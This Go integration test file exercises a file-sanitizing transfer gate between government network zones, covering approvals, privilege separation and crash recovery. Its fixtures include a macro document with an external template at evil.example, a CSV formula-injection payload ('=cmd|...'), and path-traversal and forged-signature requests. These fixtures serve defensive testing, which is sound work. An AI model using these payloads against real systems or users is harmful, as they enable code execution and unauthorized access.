package main

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"image"
	"image/jpeg"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/sekisho/sekisho/dataplane/anchors"
	"github.com/sekisho/sekisho/dataplane/antivirus/clamtest"
	"github.com/sekisho/sekisho/dataplane/place"
	"github.com/sekisho/sekisho/dataplane/release"
	"github.com/sekisho/sekisho/dataplane/sandbox"
	"github.com/sekisho/sekisho/dataplane/sandbox/broker"
	"github.com/sekisho/sekisho/dataplane/verdict"
)

// The file lane with its real programs: broker, release and worker, each as its own user, real sandboxes, real sockets. The tests
// are control and the portals: they call as those users.

const passphrase = "relay of the heads 関所"

type lane struct {
	t       *testing.T
	i       place.Instance
	bin     string
	daemons map[string]*exec.Cmd
}

var programs = sync.OnceValues(func() (string, error) {
	dir, err := os.MkdirTemp("/var/tmp", "sekisho-lane-")
	if err != nil {
		return "", err
	}
	const at = "github.com/sekisho/sekisho/cmd/"
	build := exec.Command("go", "build", "-o", dir+"/", at+"sekisho-broker", at+"sekisho-release", at+"sekisho-sanitize", "github.com/sekisho/sekisho/dataplane/sandbox/testdata/copier")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		return dir, fmt.Errorf("build: %w\n%s", err, out)
	}
	return dir, os.Chmod(dir, 0o755)
})

func TestMain(m *testing.M) {
	code := m.Run()
	if dir, _ := programs(); dir != "" {
		os.RemoveAll(dir)
	}
	os.Exit(code)
}

func newLane(t *testing.T) *lane {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Fatal("the lane runs as several users: run this test as root")
	}
	bin, err := programs()
	if err != nil {
		t.Fatal(err)
	}
	l := &lane{t: t, i: place.Instance(fmt.Sprintf("test-%d-%d", os.Getpid(), time.Now().UnixNano()%1e6)), bin: bin, daemons: map[string]*exec.Cmd{}}
	t.Cleanup(func() {
		for name := range l.daemons {
			l.kill(name)
		}
		for _, dir := range []string{l.i.Etc(), l.i.State(), l.i.Run()} {
			os.RemoveAll(dir)
		}
		if err := sandbox.Undelegate(string(l.i)); err != nil {
			t.Error(err)
		}
	})
	for _, program := range []string{"sekisho-broker", "sekisho-release"} {
		if out, err := exec.Command(filepath.Join(bin, program), "prepare", "--name", string(l.i)).CombinedOutput(); err != nil {
			t.Fatalf("%s prepare: %v %s", program, err, out)
		}
	}
	hash, err := release.HashPassphrase(passphrase)
	if err != nil {
		t.Fatal(err)
	}
	l.setting(l.i.Routes(), `version: 1
routes:
  - {from: lgwan, to: internet, approvals: [section-head], formats: [txt, csv, png, jpeg, docx, xlsx, pptx, zip], max_size: 5000000, keep_days: 7}
  - {from: my-number, to: lgwan, approvals: [section-head], formats: [txt], max_size: 5000000, keep_days: 7}
`)
	l.setting(l.i.Approvers(), fmt.Sprintf("version: 1\napprovers:\n  - {person: tanaka, section: zeimu, role: section-head, zones: [lgwan], hash: %q}\n", hash))
	if err := clamtest.Signatures(l.i.Signatures(), time.Now()); err != nil {
		t.Fatal(err)
	}
	l.clamd()
	l.start("sekisho-release", place.ReleaseUser, l.i.ReleaseSocket())
	l.start("sekisho-broker", place.BrokerUser, l.i.BrokerSocket(), "--clamd-start", "2s")
	return l
}

// clamd runs the gate's antivirus program, on signatures that know nothing but tests.
func (l *lane) clamd() {
	l.t.Helper()
	l.run("clamd", place.ClamdUser, l.i.ClamdSocket(), "sekisho-broker", "clamd", "--name", string(l.i))
}

func (l *lane) setting(path, s string) {
	l.t.Helper()
	if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
		l.t.Fatal(err)
	}
}

func ids(t *testing.T, name string) *syscall.Credential {
	t.Helper()
	u, err := user.Lookup(name)
	if err != nil {
		t.Fatalf("%v; hack/bootstrap makes the users", err)
	}
	uid, err1 := strconv.ParseUint(u.Uid, 10, 32)
	gid, err2 := strconv.ParseUint(u.Gid, 10, 32)
	if err := errors.Join(err1, err2); err != nil {
		t.Fatal(err)
	}
	return &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}
}

// start runs a daemon as its user and waits until its socket answers.
func (l *lane) start(program, as, socket string, more ...string) {
	l.t.Helper()
	l.run(program, as, socket, append([]string{program, "--name", string(l.i)}, more...)...)
}

func (l *lane) run(name, as, socket string, command ...string) {
	l.t.Helper()
	cmd := exec.Command(filepath.Join(l.bin, command[0]), command[1:]...)
	cmd.Dir, cmd.Env = "/", []string{"PATH=/usr/bin:/bin"}
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: ids(l.t, as), Setpgid: true}
	var log bytes.Buffer
	cmd.Stderr = &log
	if err := cmd.Start(); err != nil {
		l.t.Fatal(err)
	}
	l.daemons[name] = cmd
	for end := time.Now().Add(10 * time.Second); ; {
		if c, err := net.Dial("unix", socket); err == nil {
			c.Close()
			return
		}
		if time.Now().After(end) {
			l.t.Fatalf("%s does not answer: %s", name, log.String())
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func (l *lane) kill(program string) {
	if cmd := l.daemons[program]; cmd != nil {
		cmd.Process.Kill()
		cmd.Wait()
		delete(l.daemons, program)
	}
}

// as is an HTTP client whose connections the kernel reports as that user's.
func (l *lane) as(name, sock string) *http.Client {
	uid := uintptr(ids(l.t, name).Uid)
	return &http.Client{Transport: &http.Transport{DisableKeepAlives: true, DialContext: func(context.Context, string, string) (net.Conn, error) {
		runtime.LockOSThread() // SO_PEERCRED is the effective user of the thread that connects
		defer runtime.UnlockOSThread()
		const same = ^uintptr(0)
		if _, _, e := syscall.RawSyscall(syscall.SYS_SETRESUID, same, uid, same); e != 0 {
			return nil, e
		}
		c, err := net.Dial("unix", sock)
		if _, _, e := syscall.RawSyscall(syscall.SYS_SETRESUID, same, 0, same); e != 0 {
			return nil, e
		}
		return c, err
	}}}
}

func (l *lane) release(as string) *release.Client { return release.Over(l.as(as, l.i.ReleaseSocket())) }
func (l *lane) portal(z anchors.Zone) *release.Client {
	return l.release(place.PortalUser(z))
}

func (l *lane) order(o broker.Order) (broker.Outcome, error) {
	return broker.Over(l.as(place.ControlUser, l.i.BrokerSocket())).Run(l.t.Context(), o)
}

func (l *lane) send(id, name string, body []byte) {
	l.t.Helper()
	_, err := l.release(place.ControlUser).StoreOriginal(l.t.Context(), release.NewOriginal{Transfer: id, Name: name, Requester: "yamada", Section: "zeimu", From: anchors.LGWAN, To: anchors.Internet}, bytes.NewReader(body))
	if err != nil {
		l.t.Fatal(err)
	}
}

// revision is the hash of the routes file, which control can't change.
func (l *lane) revision() string {
	l.t.Helper()
	b, err := os.ReadFile(l.i.Routes())
	if err != nil {
		l.t.Fatal(err)
	}
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// sanitize orders as control does.
func (l *lane) sanitize(id string) broker.Outcome {
	l.t.Helper()
	out, err := l.order(broker.Order{Transfer: id, From: anchors.LGWAN, To: anchors.Internet})
	if err != nil {
		l.t.Fatal(err)
	}
	return out
}

func (l *lane) approve(id, sum string) error {
	_, err := l.portal(anchors.LGWAN).Approve(l.t.Context(), release.ApprovalRequest{Transfer: id, SanitizedSHA256: sum, Person: "tanaka", Passphrase: passphrase, Reason: "公開資料"})
	return err
}

func (l *lane) download(id string) ([]byte, string, error) {
	f, err := l.portal(anchors.Internet).Released(l.t.Context(), id)
	if err != nil {
		return nil, "", err
	}
	defer f.Body.Close()
	b, err := io.ReadAll(f.Body)
	return b, f.Disposition, err
}

func wantCode(t *testing.T, err error, codes ...string) {
	t.Helper()
	var r *release.Refusal
	if errors.As(err, &r) {
		for _, c := range codes {
			if r.Code == c {
				return
			}
		}
	}
	t.Errorf("got %v, want %v", err, codes)
}

// docm is a document with a macro, a remote template and one line of text.
func docm(t *testing.T) []byte {
	t.Helper()
	const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, body := range map[string]string{
		"[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`,
		"_rels/.rels":       rels + `<Relationship Id="rId1" Type="` + office + `officeDocument" Target="word/document.xml"/></Relationships>`,
		"word/document.xml": `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>髙橋様への通知</w:t></w:r></w:p></w:body></w:document>`,
		"word/settings.xml": `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`,
		"word/_rels/document.xml.rels": rels + `<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>` +
			`<Relationship Id="rId2" Type="` + office + `settings" Target="settings.xml"/></Relationships>`,
		"word/_rels/settings.xml.rels": rels + `<Relationship Id="rId1" Type="` + office + `attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
		"word/vbaProject.bin":          "\xd0\xcf\x11\xe0 AutoOpen Shell",
	} {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, body); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// photo is a JPEG with a position in its EXIF.
func photo(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, image.NewRGBA(image.Rect(0, 0, 40, 30)), nil); err != nil {
		t.Fatal(err)
	}
	exif := "Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x25\x88\x04\x00\x01\x00\x00\x00\x1a\x00\x00\x00\x00\x00\x00\x00GPSPOSITION"
	seg := append([]byte{0xFF, 0xE1, 0, byte(len(exif) + 2)}, exif...)
	return append(append(append([]byte{}, b.Bytes()[:2]...), seg...), b.Bytes()[2:]...)
}

func TestFilesCrossAndTheirDangerStays(t *testing.T) {
	l := newLane(t)
	for _, c := range []struct {
		id, name, out string
		body          []byte
		keeps, gone   string
	}{
		{"t1", "通知.docm", "通知.docx", docm(t), "", "vbaProject"},
		{"t2", "一覧.csv", "一覧.csv", []byte("\x8e\x81\x96\xbc,\xf0\x40\r\n\x8e\x52\x93\x63,=cmd|'/c calc'!A1\r\n"), "\x8e\x81\x96\xbc,\xf0\x40", "\n\x8e\x52\x93\x63,=cmd"},
		{"t3", "写真.jpg", "写真.jpg", photo(t), "", "GPSPOSITION"},
	} {
		l.send(c.id, c.name, c.body)
		out := l.sanitize(c.id)
		if out.Attestation == nil {
			t.Fatalf("%s: %+v %+v", c.name, out.Report.Findings, out.Verified)
		}
		var att verdict.Attestation
		if err := json.Unmarshal(out.Attestation.Statement, &att); err != nil || att.PolicyRevision != l.revision() {
			t.Errorf("%s: attested under %q (%v), want the hash of the routes file", c.name, att.PolicyRevision, err)
		}
		_, _, err := l.download(c.id)
		wantCode(t, err, release.CodeApprovalMissing)
		see, err := l.portal(anchors.LGWAN).Sanitized(t.Context(), c.id)
		if err != nil {
			t.Fatal(err)
		}
		see.Body.Close()
		if err := l.approve(c.id, see.SHA256); err != nil {
			t.Fatal(err)
		}
		b, disposition, err := l.download(c.id)
		if err != nil || len(b) == 0 {
			t.Fatalf("%s: %v", c.name, err)
		}
		if !bytes.Contains(b, []byte(c.keeps)) || bytes.Contains(b, []byte(c.gone)) {
			t.Errorf("%s: %q", c.name, b)
		}
		if s := sha256.Sum256(b); hex.EncodeToString(s[:]) != see.SHA256 {
			t.Errorf("%s: other bytes than the approver saw", c.name)
		}
		if !strings.Contains(disposition, url.PathEscape(c.out)) {
			t.Errorf("%s: %s", c.name, disposition)
		}
	}
}

func TestBlockedFilesLeaveNothingToApprove(t *testing.T) {
	l := newLane(t)
	for id, body := range map[string][]byte{"b1": append([]byte("MZ\x90\x00"), make([]byte, 500)...), "b2": []byte("%PDF-1.7\n"), "b3": {0, 1, 2, 3}} {
		l.send(id, "請求書.pdf", body)
		out := l.sanitize(id)
		if out.Attestation != nil || out.Report.Outcome != verdict.Blocked || len(out.Report.Findings) == 0 {
			t.Errorf("%s: %+v", id, out)
		}
		wantCode(t, l.approve(id, strings.Repeat("0", 64)), release.CodeNotSanitized)
		_, _, err := l.download(id)
		wantCode(t, err, release.CodeNotSanitized)
	}
}

// TestAWrongRebuilderGetsNoSignature: the rebuilder copies everything through; the verifier is the real one.
func TestAWrongRebuilderGetsNoSignature(t *testing.T) {
	l := newLane(t)
	l.kill("sekisho-broker")
	l.start("sekisho-broker", place.BrokerUser, l.i.BrokerSocket(), "--worker", filepath.Join(l.bin, "copier"))
	for id, f := range map[string]struct {
		name string
		body []byte
	}{"w1": {"a.docx", docm(t)}, "w2": {"a.jpg", photo(t)}, "w3": {"a.csv", []byte("=1+1\n")}} {
		l.send(id, f.name, f.body)
		out := l.sanitize(id)
		if out.Report.Outcome != verdict.Clean || out.Attestation != nil || out.Verified == nil || out.Verified.Outcome != verdict.Blocked {
			t.Errorf("%s: %+v", f.name, out)
		}
		sum := sha256.Sum256(f.body)
		wantCode(t, l.approve(id, hex.EncodeToString(sum[:])), release.CodeNotSanitized)
	}
}

// TestALyingControlGetsNothing: a control process that was taken over speaks to the real daemons over the real sockets, in
// every way their interfaces allow. It may put files in and throw them away, and that is all.
func TestALyingControlGetsNothing(t *testing.T) {
	l := newLane(t)
	secret := []byte("MARKER of a resident\n")
	l.send("t", "a.txt", secret)
	if out := l.sanitize("t"); out.Attestation == nil {
		t.Fatalf("%+v", out)
	}
	control := l.as(place.ControlUser, l.i.ReleaseSocket())
	sum := sha256.Sum256(secret)
	hexSum := hex.EncodeToString(sum[:])
	forged := func(kind string, v any) string {
		_, key, err := ed25519.GenerateKey(rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		s, err := verdict.Sign(key, kind, v)
		if err != nil {
			t.Fatal(err)
		}
		b, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		return base64.StdEncoding.EncodeToString(b)
	}
	att := verdict.Attestation{Transfer: "t", OriginalSHA256: hexSum, SanitizedSHA256: hexSum, Size: int64(len(secret)), Name: "a.txt", From: "lgwan", To: "internet", PolicyRevision: "r1"}

	t.Run("requests", func(t *testing.T) {
		approval := fmt.Sprintf(`{"transfer":"t","sanitized_sha256":%q,"person":"tanaka","passphrase":%q}`, hexSum, passphrase)
		for _, c := range []struct{ method, path, body, attestation string }{
			{"GET", "/released/t", "", ""},
			{"GET", "/sanitized/t", "", ""},
			{"GET", "/originals/t", "", ""},
			{"GET", "/originals/t/about", "", ""},
			{"HEAD", "/released/t", "", ""},
			{"POST", "/released/t", "", ""},
			{"GET", "/released/../released/t", "", ""},
			{"GET", "//released/t", "", ""},
			{"GET", "/released/t?role=portal&zone=internet", "", ""},
			{"GET", "/transfers/t/../../released/t", "", ""},
			{"POST", "/approvals", approval, ""},
			{"PUT", "/approvals", approval, ""},
			{"PUT", "/sanitized/t", string(secret), forged(verdict.KindAttestation, att)},
			{"POST", "/sanitized/t", string(secret), forged(verdict.KindAttestation, att)},
			{"PATCH", "/transfers/t", `{"state":"releasable"}`, ""},
			{"PUT", "/transfers/t", `{"to":"lgwan"}`, ""},
			{"POST", "/originals/t?name=a.txt&from=lgwan&to=internet&requester=x&section=zeimu", "other", ""},
			{"POST", "/originals/f1?name=a.txt&from=my-number&to=internet&requester=x", "x", ""},
			{"POST", "/originals/f2?name=a.txt&from=internet&to=my-number&requester=x", "x", ""},
			{"POST", "/originals/f3?name=a.txt&from=management&to=internet&requester=x", "x", ""},
			{"POST", "/originals/..%2F..%2Fx?name=a.txt&from=lgwan&to=internet&requester=x", "x", ""},
			{"GET", "/", "", ""},
		} {
			req, err := http.NewRequest(c.method, "http://release"+c.path, strings.NewReader(c.body))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("X-Sekisho-Zone", "internet")
			req.Header.Set("X-Forwarded-For", "127.0.0.1")
			if c.attestation != "" {
				req.Header.Set(release.HeaderAttestation, c.attestation)
			}
			resp, err := control.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, err := io.ReadAll(resp.Body)
			resp.Body.Close()
			if err != nil || resp.StatusCode < 400 || bytes.Contains(b, secret) {
				t.Errorf("%s %s: %s %q %v", c.method, c.path, resp.Status, b, err)
			}
		}
	})
	t.Run("orders", func(t *testing.T) {
		for name, o := range map[string]broker.Order{
			"to another zone":            {Transfer: "t", From: anchors.LGWAN, To: anchors.MyNumber},
			"from another zone":          {Transfer: "t", From: anchors.MyNumber, To: anchors.Internet},
			"of nothing":                 {Transfer: "none", From: anchors.LGWAN, To: anchors.Internet},
			"for formats off the route":  {Transfer: "t", From: anchors.LGWAN, To: anchors.Internet, Formats: []string{"exe"}},
			"with a path as transfer id": {Transfer: "../t", From: anchors.LGWAN, To: anchors.Internet},
		} {
			if out, err := l.order(o); err == nil {
				t.Errorf("%s: %+v", name, out)
			}
		}
	})
	t.Run("what it is told", func(t *testing.T) {
		st, err := l.release(place.ControlUser).State(t.Context(), "t")
		if err != nil || st.State != "sanitized" || len(st.Missing) != 1 {
			t.Errorf("%+v %v", st, err)
		}
	})
	t.Run("the portals give nothing on its word", func(t *testing.T) {
		_, _, err := l.download("t") // may-download was answered with yes
		wantCode(t, err, release.CodeApprovalMissing)
		_, err = l.portal(anchors.MyNumber).Released(t.Context(), "t")
		wantCode(t, err, release.CodeZone)
	})
	t.Run("a requester by the approver's name", func(t *testing.T) {
		_, err := l.release(place.ControlUser).StoreOriginal(t.Context(), release.NewOriginal{Transfer: "own", Name: "a.txt", Requester: "tanaka", Section: "zeimu", From: anchors.LGWAN, To: anchors.Internet}, bytes.NewReader(secret))
		if err != nil {
			t.Fatal(err)
		}
		l.sanitize("own")
		wantCode(t, l.approve("own", hexSum), release.CodeOwnRequest)
	})
	t.Run("an approval for one file is none for another", func(t *testing.T) {
		if err := l.approve("t", hexSum); err != nil {
			t.Fatal(err)
		}
		if b, _, err := l.download("t"); err != nil || !bytes.Equal(b, secret) { // so the refusals above were not for a broken lane
			t.Fatalf("%q %v", b, err)
		}
		l.send("u", "a.txt", secret) // the same bytes again
		l.sanitize("u")
		_, _, err := l.download("u")
		wantCode(t, err, release.CodeApprovalMissing)
	})
	t.Run("the disk is closed to it", func(t *testing.T) {
		for _, path := range []string{l.i.StateOf("release"), l.i.StateOf("broker"), broker.KeyPath(l.i), l.i.Routes(), l.i.Approvers(), l.i.VerifierKey()} {
			cmd := exec.Command("/usr/bin/test", "-w", path)
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: ids(t, place.ControlUser)}
			if cmd.Run() == nil {
				t.Errorf("control can write %s", path)
			}
		}
		for _, path := range []string{l.i.StateOf("release"), broker.KeyPath(l.i)} {
			cmd := exec.Command("/usr/bin/test", "-r", path)
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: ids(t, place.ControlUser)}
			if cmd.Run() == nil {
				t.Errorf("control can read %s", path)
			}
		}
	})
	t.Run("the broker is for control alone", func(t *testing.T) {
		for _, as := range []string{place.PortalUser(anchors.Internet), place.ReleaseUser, "nobody"} {
			_, err := broker.Over(l.as(as, l.i.BrokerSocket())).Run(t.Context(), broker.Order{Transfer: "t", From: anchors.LGWAN, To: anchors.Internet})
			if err == nil {
				t.Errorf("%s gave an order", as)
			}
		}
	})
}

// TestKillAnyTime kills both daemons, with SIGKILL, again and again while files come in. What was answered with yes is there
// afterwards, whole; the rest can be sent again.
func TestKillAnyTime(t *testing.T) {
	l := newLane(t)
	body := bytes.Repeat([]byte("0123456789 関所\n"), 20_000)
	accepted := map[string]bool{}
	for round := range 6 {
		ctx, stop := context.WithCancel(t.Context())
		done := make(chan struct{})
		some := make(chan struct{}) // closed when the round has accepted two files
		go func() {
			defer close(done)
			client := l.release(place.ControlUser)
			for n := 0; ctx.Err() == nil; n++ {
				id := fmt.Sprintf("k%d-%d", round, n)
				d, err := client.StoreOriginal(ctx, release.NewOriginal{Transfer: id, Name: "a.txt", Requester: "yamada", Section: "zeimu", From: anchors.LGWAN, To: anchors.Internet}, bytes.NewReader(body))
				if err != nil {
					return
				}
				if d != sandbox.Digest(body) {
					t.Errorf("%s: %+v", id, d)
				}
				accepted[id] = true
				if n == 1 {
					close(some)
				}
				if n%3 == 0 {
					broker.Over(l.as(place.ControlUser, l.i.BrokerSocket())).Run(ctx, broker.Order{Transfer: id, From: anchors.LGWAN, To: anchors.Internet})
				}
			}
		}()
		select {
		case <-some:
		case <-done:
			t.Fatal("the daemons gave up before they were killed")
		case <-time.After(30 * time.Second):
			t.Fatal("no two files were accepted in 30 s")
		}
		time.Sleep(time.Duration(17*round) * time.Millisecond) // another moment in each round
		l.kill("sekisho-release")
		l.kill("sekisho-broker")
		stop()
		<-done
		l.start("sekisho-release", place.ReleaseUser, l.i.ReleaseSocket())
		l.start("sekisho-broker", place.BrokerUser, l.i.BrokerSocket())
	}
	for id := range accepted {
		f, err := l.release(place.BrokerUser).Original(t.Context(), id)
		if err != nil {
			t.Errorf("%s: accepted and lost: %v", id, err)
			continue
		}
		b, err := io.ReadAll(f.Body)
		f.Body.Close()
		if err != nil || !bytes.Equal(b, body) {
			t.Errorf("%s: %d bytes, %v", id, len(b), err)
		}
	}
	for id := range accepted { // and the lane still runs
		if out := l.sanitize(id); out.Attestation == nil {
			t.Errorf("%s: %+v", id, out.Report.Findings)
		}
		break
	}
	t.Logf("%d files accepted over 6 kills", len(accepted))
}

func TestASecondReleaseDaemonIsRefused(t *testing.T) {
	l := newLane(t)
	cmd := exec.Command(filepath.Join(l.bin, "sekisho-release"), "--name", string(l.i))
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: ids(t, place.ReleaseUser)}
	out, err := cmd.CombinedOutput()
	if err == nil || !strings.Contains(string(out), "another sekisho-release") {
		t.Errorf("%v %s", err, out)
	}
}
